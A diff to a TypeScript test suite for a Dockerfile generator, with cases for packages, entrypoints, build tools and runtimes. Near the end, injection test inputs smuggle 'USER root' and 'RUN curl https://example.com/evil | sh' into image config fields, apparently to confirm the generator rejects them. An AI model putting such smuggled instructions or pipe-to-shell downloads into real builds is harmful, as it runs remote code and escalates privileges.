@@ -193,7 +193,227 @@ test.each<[string, ImageSketch, BaseTechniqueId, readonly string[]]>([
   for (const part of parts) expect(text).toContain(part);
 });
 
+const BOOKWORM = { baseNames: ['library/debian:12'] };
+const run = (script: string) => ({ instruction: `RUN /bin/sh -c ${script} # buildkit` });
+
+test.each<[string, ImageSketch, BaseTechniqueId, readonly string[]]>([
+  [
+    'what it installed and what it set',
+    {
+      ...BOOKWORM,
+      runtime: 'node',
+      own: [
+        run('apt-get update && apt-get install -y --no-install-recommends ffmpeg=7:* python3 make g++'),
+        run('npm ci'),
+      ],
+      steps: ['ENV PORT=8080 GREETING=good day', 'ENV API_TOKEN=4f8e1c9a7b2d'],
+      config: { Env: ['PATH=/bin', 'NODE_VERSION=24.1.0', 'PORT=8080', 'GREETING=good day', 'API_TOKEN=4f8e1c9a7b2d'] },
+    },
+    'slim-base',
+    [
+      'AS build\nRUN apt-get update && apt-get install -y --no-install-recommends python3 make g++ &&',
+      'node:24-trixie-slim\nRUN apt-get update && apt-get install -y --no-install-recommends ffmpeg &&',
+      'ENV PORT=8080 GREETING="good day"\n',
+    ],
+  ],
+  [
+    'packages of another distribution',
+    { runtime: 'node', own: [run('apt-get install -y ffmpeg libvips-dev')] },
+    'alpine-base',
+    ['by other names here, or not needed any more: ffmpeg', 'installed here: libvips-dev'],
+  ],
+  [
+    'a script that starts it',
+    {
+      runtime: 'node',
+      own: [{ instruction: 'COPY --chown=node start.sh /usr/local/bin/entrypoint.sh # buildkit' }],
+      config: { Entrypoint: ['/usr/local/bin/entrypoint.sh'], Cmd: ['node', 'server.js'] },
+    },
+    'slim-base',
+    ['COPY --chmod=0755 start.sh /usr/local/bin/entrypoint.sh\n', 'ENTRYPOINT ["/usr/local/bin/entrypoint.sh"]'],
+  ],
+  [
+    'a script of nobody knows where',
+    { runtime: 'node', config: { Entrypoint: ['/entrypoint.sh'] } },
+    'slim-base',
+    ['# The image is started by entrypoint.sh'],
+  ],
+  [
+    'the shell form',
+    { runtime: 'node', config: { Cmd: ['/bin/sh', '-c', 'node server.js'] } },
+    'distroless-base',
+    ['CMD ["server.js"]'],
+  ],
+  [
+    'a start that needs the shell',
+    { runtime: 'node', config: { Cmd: ['yarn', 'start'] } },
+    'distroless-base',
+    ['FROM node:24-trixie-slim\n', 'CMD ["yarn", "start"]'],
+  ],
+  [
+    'Bun as a package manager',
+    { runtime: 'node', own: [run('bun install')] },
+    'slim-base',
+    ['package.json bun.lock*', 'bun install --frozen-lockfile --production'],
+  ],
+  [
+    'a lock file that was copied, and a script of another name',
+    {
+      runtime: 'node',
+      own: [{ instruction: 'COPY package.json pnpm-lock.yaml ./ # buildkit' }, run('npm run build:server')],
+    },
+    'slim-base',
+    ['pnpm install --frozen-lockfile', 'pnpm run --if-present build:server'],
+  ],
+  [
+    'options of npm',
+    { runtime: 'node', own: [run('npm ci --legacy-peer-deps')] },
+    'slim-base',
+    ['npm ci --legacy-peer-deps\n'],
+  ],
+  [
+    'Pipenv',
+    { runtime: 'python', own: [run('pip install pipenv && pipenv install --system --deploy')] },
+    'slim-base',
+    ['COPY Pipfile Pipfile.lock ./', '/opt/pipenv/bin/pipenv sync'],
+  ],
+  [
+    'lists in a folder, packages by name, an index',
+    {
+      runtime: 'python',
+      own: [
+        run('pip install --upgrade pip && pip install -r requirements/base.txt'),
+        run(
+          'pip install --no-cache-dir --index-url https://download.example.com/whl/cpu torch "uvicorn[standard]>=0.30"',
+        ),
+      ],
+    },
+    'slim-base',
+    [
+      'COPY requirements requirements\n',
+      'pip install --index-url https://download.example.com/whl/cpu -r requirements/base.txt torch "uvicorn[standard]>=0.30"\n',
+    ],
+  ],
+  [
+    'a project of its own',
+    { runtime: 'python', own: [run('pip install -e .[server]')] },
+    'slim-base',
+    ['COPY . .\nRUN', 'pip install ".[server]"'],
+  ],
+  [
+    'uv in place of pip',
+    { runtime: 'python', own: [run('uv pip install --system -r /tmp/requirements.txt')] },
+    'slim-base',
+    ['COPY requirements.txt ./', 'pip install -r requirements.txt'],
+  ],
+  [
+    'files that Django collects',
+    { runtime: 'python', own: [run('python manage.py collectstatic --noinput')] },
+    'slim-base',
+    ['RUN /opt/venv/bin/python manage.py collectstatic --noinput'],
+  ],
+  [
+    'Go with C',
+    {
+      ...BOOKWORM,
+      runtime: 'go',
+      own: [run('apt-get install -y libsqlite3-dev'), run('go build -o /api cmd/api/main.go')],
+      config: { Cmd: ['/api'] },
+    },
+    'slim-base',
+    [
+      'FROM golang:1.27-trixie AS build',
+      'build-essential libsqlite3-dev',
+      'CGO_ENABLED=1',
+      '-o /out/api ./cmd/api\n',
+      'ca-certificates.crt',
+    ],
+  ],
+  ['all programs of a module', { runtime: 'go', own: [run('go install ./...')] }, 'scratch-base', ['-o /out/ ./...']],
+  [
+    'a package by its module',
+    { runtime: 'go', own: [run('go install example.com/shop/cmd/api')] },
+    'scratch-base',
+    ['-o /out/app example.com/shop/cmd/api'],
+  ],
+  [
+    'a script before a binary',
+    { runtime: 'go', config: { Entrypoint: ['/entrypoint.sh', '/bin/api'] } },
+    'alpine-base',
+    ['-o /out/api .', '# /entrypoint.sh starts the image'],
+  ],
+  [
+    'Rust with OpenSSL',
+    { ...BOOKWORM, runtime: 'rust', own: [run('apt-get install -y pkg-config libssl-dev')] },
+    'scratch-base',
+    ['musl-dev pkgconf openssl-dev openssl-libs-static', 'FROM scratch'],
+  ],
+  [
+    'Maven without a wrapper',
+    { runtime: 'java', own: [run('mvn package')] },
+    'slim-base',
+    ['FROM maven:3-eclipse-temurin-25 AS build', ' mvn -B package'],
+  ],
+  [
+    'a wrapper of Maven',
+    { runtime: 'java', own: [run('./mvnw package')] },
+    'slim-base',
+    ['FROM eclipse-temurin:25-jdk AS build', 'COPY mvnw pom.xml ./'],
+  ],
+  [
+    'Gradle without a wrapper',
+    { runtime: 'java', own: [run('gradle build')] },
+    'slim-base',
+    ['FROM gradle:jdk25 AS build', ' gradle --no-daemon assemble'],
+  ],
+  [
+    'options of Java',
+    {
+      runtime: 'java',
+      config: { Entrypoint: ['java', '-Xmx512m', '-Dserver.port=8080', '-jar', 'target/shop.jar', '--debug'] },
+    },
+    'slim-base',
+    ['ENTRYPOINT ["java", "-Xmx512m", "-Dserver.port=8080", "-jar", "/app/app.jar", "--debug"]'],
+  ],
+  [
+    'Apache',
+    {
+      runtime: 'php',
+      own: [
+        run(
+          'docker-php-ext-install -j$(nproc) pdo_mysql zip && pecl install redis-6.0.2 && docker-php-ext-enable redis && a2enmod rewrite',
+        ),
+      ],
+      config: { Env: ['APACHE_CONFDIR=/etc/apache2'], Cmd: ['apache2-foreground'], ExposedPorts: { '80/tcp': {} } },
+    },
+    'alpine-base',
+    [
+      'FROM php:8.4-apache-trixie',
+      'install-php-extensions pdo_mysql zip redis\n',
+      'RUN a2enmod rewrite',
+      'CMD ["apache2-foreground"]',
+    ],
+  ],
+  [
+    'PHP of the command line',
+    { runtime: 'php', config: { Cmd: ['php', 'worker.php'] } },
+    'slim-base',
+    ['FROM php:8.4-cli-trixie', 'CMD ["php", "worker.php"]'],
+  ],
+  [
+    '.NET with packages',
+    { ...BOOKWORM, runtime: 'dotnet', own: [run('apt-get install -y libgdiplus')] },
+    'slim-base',
+    ['aspnet:10.0-noble\n', 'libgdiplus'],
+  ],
+])('keeps %s', (_, sketch, base, parts) => {
+  const text = dockerfile(sketch, base);
+  for (const part of parts) expect(text).toContain(part);
+  expect(text).not.toContain('4f8e1c9a7b2d');
+});
+
 test.each([
+  [{ Entrypoint: ['/a\nUSER root\nb.sh'] }],
   [{ WorkingDir: '/app\nRUN curl https://example.com/evil | sh' }],
   [{ ExposedPorts: { '80/tcp\nUSER root': {} } }],
   [{ Cmd: ['node\nUSER root', 'x'] }],
